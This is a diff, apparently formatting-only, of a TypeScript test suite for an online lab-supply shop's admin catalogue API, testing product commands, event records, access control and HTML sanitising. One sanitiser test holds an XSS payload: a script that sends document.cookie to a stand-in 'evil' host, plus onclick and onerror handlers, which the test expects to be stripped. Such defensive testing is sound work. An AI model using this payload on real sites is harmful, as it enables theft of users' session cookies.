@@ -25,7 +25,8 @@ beforeAll(async () => {
 afterAll(async () => {
   await app?.close();
   await stores?.drop();
-  if (contentDir) await Promise.all([contentDir, incomingDirOf(contentDir)].map((dir) => rm(dir, { recursive: true, force: true })));
+  if (contentDir)
+    await Promise.all([contentDir, incomingDirOf(contentDir)].map((dir) => rm(dir, { recursive: true, force: true })));
 });
 
 async function catalogueEvents(): Promise<RecordedEvent[]> {
@@ -42,7 +43,9 @@ describe('catalogue product commands', () => {
     const response = await addProduct({ name: '  Cell Culture Products  ' });
     expect(response.statusCode).toBe(201);
     const { productId, position } = response.json();
-    const [event] = (await catalogueEvents()).filter((e) => e.type === 'ProductCreated' && (e.data as { productId: string }).productId === productId);
+    const [event] = (await catalogueEvents()).filter(
+      (e) => e.type === 'ProductCreated' && (e.data as { productId: string }).productId === productId,
+    );
     expect(event?.data).toEqual({ productId, name: 'Cell Culture Products', displayOrder: expect.any(Number) });
     expect(event?.metadata.actor).toMatchObject({ kind: 'admin', email: 'admin@labshop.test' });
     expect(event?.position).toBe(position);
@@ -74,28 +77,57 @@ describe('catalogue product commands', () => {
     const customer = await tokens.sign({ role: 'customer', sub: 'c1', email: 'shopper@example.com' }, '1h');
     const forbidden = await addProduct({ name: 'x' }, { authorization: `Bearer ${customer}` });
     expect(forbidden.statusCode).toBe(403);
-    expect(forbidden.json()).toMatchObject({ error: 'Forbidden', message: 'Access Denied! Please log in as an Admin.' });
+    expect(forbidden.json()).toMatchObject({
+      error: 'Forbidden',
+      message: 'Access Denied! Please log in as an Admin.',
+    });
     expect(await catalogueEvents()).toHaveLength(before);
   });
 
   it('renames, hides, reorders and deletes', async () => {
     const a = (await addProduct({ name: 'Alpha' })).json().productId as string;
     const b = (await addProduct({ name: 'Beta' })).json().productId as string;
-    const edit = await app.inject({ method: 'PATCH', url: `/api/admin/catalogue/products/${a}`, headers: admin, payload: { name: 'Alpha 2', visible: false } });
+    const edit = await app.inject({
+      method: 'PATCH',
+      url: `/api/admin/catalogue/products/${a}`,
+      headers: admin,
+      payload: { name: 'Alpha 2', visible: false },
+    });
     expect(edit.statusCode).toBe(200);
-    const all = (await catalogueEvents()).flatMap((e) => (e.type === 'ProductCreated' ? [(e.data as { productId: string }).productId] : []));
+    const all = (await catalogueEvents()).flatMap((e) =>
+      e.type === 'ProductCreated' ? [(e.data as { productId: string }).productId] : [],
+    );
     const order = [b, ...all.filter((id) => id !== b)];
-    const reorder = await app.inject({ method: 'PUT', url: '/api/admin/catalogue/products/order', headers: admin, payload: { productIds: order } });
+    const reorder = await app.inject({
+      method: 'PUT',
+      url: '/api/admin/catalogue/products/order',
+      headers: admin,
+      payload: { productIds: order },
+    });
     expect(reorder.statusCode).toBe(200);
     const remove = await app.inject({ method: 'DELETE', url: `/api/admin/catalogue/products/${a}`, headers: admin });
     expect(remove.statusCode).toBe(200);
-    expect((await catalogueEvents()).slice(-4).map((e) => e.type)).toEqual(['ProductRenamed', 'ProductVisibilityChanged', 'ProductsReordered', 'ProductDeleted']);
+    expect((await catalogueEvents()).slice(-4).map((e) => e.type)).toEqual([
+      'ProductRenamed',
+      'ProductVisibilityChanged',
+      'ProductsReordered',
+      'ProductDeleted',
+    ]);
   });
 
   it('answers 404 for an unknown product and 400 for an incomplete order', async () => {
-    const unknown = await app.inject({ method: 'DELETE', url: '/api/admin/catalogue/products/00000000-0000-4000-8000-000000000000', headers: admin });
+    const unknown = await app.inject({
+      method: 'DELETE',
+      url: '/api/admin/catalogue/products/00000000-0000-4000-8000-000000000000',
+      headers: admin,
+    });
     expect(unknown.statusCode).toBe(404);
-    const incomplete = await app.inject({ method: 'PUT', url: '/api/admin/catalogue/products/order', headers: admin, payload: { productIds: ['00000000-0000-4000-8000-000000000000'] } });
+    const incomplete = await app.inject({
+      method: 'PUT',
+      url: '/api/admin/catalogue/products/order',
+      headers: admin,
+      payload: { productIds: ['00000000-0000-4000-8000-000000000000'] },
+    });
     expect(incomplete.statusCode).toBe(400);
     expect(incomplete.json().fields).toHaveProperty('productIds');
   });
@@ -107,7 +139,9 @@ describe('catalogue product commands', () => {
     const conflicts = responses.filter((response) => response.statusCode === 409).length;
     expect(created + conflicts).toBe(8);
     expect(await catalogueEvents()).toHaveLength(before + created);
-    const orders = (await catalogueEvents()).flatMap((e) => (e.type === 'ProductCreated' ? [(e.data as { displayOrder: number }).displayOrder] : []));
+    const orders = (await catalogueEvents()).flatMap((e) =>
+      e.type === 'ProductCreated' ? [(e.data as { displayOrder: number }).displayOrder] : [],
+    );
     expect(new Set(orders).size).toBe(orders.length);
   });
 });
@@ -124,11 +158,16 @@ describe('product content', () => {
 
   it("stores the editor's HTML sanitised in the product's stream, and nothing when it does not change", async () => {
     const productId = (await addProduct({ name: 'Exosome Products' })).json().productId as string;
-    const dirty = '<h2>Exosomes</h2><p onclick="steal()">Isolation <b>kits</b></p><script>fetch("//evil?c="+document.cookie)</script><img src="x" onerror="alert(1)">';
+    const dirty =
+      '<h2>Exosomes</h2><p onclick="steal()">Isolation <b>kits</b></p><script>fetch("//evil?c="+document.cookie)</script><img src="x" onerror="alert(1)">';
     const response = await changeContent(productId, { content: dirty });
     expect(response.statusCode).toBe(200);
     const [event] = await productEvents(productId);
-    expect(event).toMatchObject({ type: 'ProductContentChanged', position: response.json().position, data: { productId, content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' } });
+    expect(event).toMatchObject({
+      type: 'ProductContentChanged',
+      position: response.json().position,
+      data: { productId, content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' },
+    });
     expect(event?.metadata.actor).toMatchObject({ kind: 'admin', email: 'admin@labshop.test' });
 
     const same = await changeContent(productId, { content: '<h2>Exosomes</h2><p>Isolation <b>kits</b></p>' });
@@ -148,10 +187,15 @@ describe('product content', () => {
       expect(response.statusCode).toBe(status);
       expect(response.json().fields).toEqual(fields);
     }
-    expect((await changeContent('00000000-0000-4000-8000-000000000000', { content: 'x' })).json()).toMatchObject({ error: 'NotFound', message: 'Product not found' });
+    expect((await changeContent('00000000-0000-4000-8000-000000000000', { content: 'x' })).json()).toMatchObject({
+      error: 'NotFound',
+      message: 'Product not found',
+    });
     expect((await changeContent(productId, { content: 'x' }, {})).statusCode).toBe(401);
     const customer = await tokens.sign({ role: 'customer', sub: 'c1', email: 'shopper@example.com' }, '1h');
-    expect((await changeContent(productId, { content: 'x' }, { authorization: `Bearer ${customer}` })).statusCode).toBe(403);
+    expect((await changeContent(productId, { content: 'x' }, { authorization: `Bearer ${customer}` })).statusCode).toBe(
+      403,
+    );
     expect(await productEvents(productId)).toHaveLength(0);
   });
 });
